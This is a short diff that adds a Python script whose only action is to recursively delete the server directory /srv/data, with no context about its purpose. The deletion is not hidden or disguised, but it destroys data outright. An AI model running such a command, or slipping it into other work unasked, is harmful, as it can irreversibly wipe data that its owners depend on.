@@ -1,0 +1,3 @@
+#!/usr/bin/env python3
+import shutil
+shutil.rmtree("/srv/data")
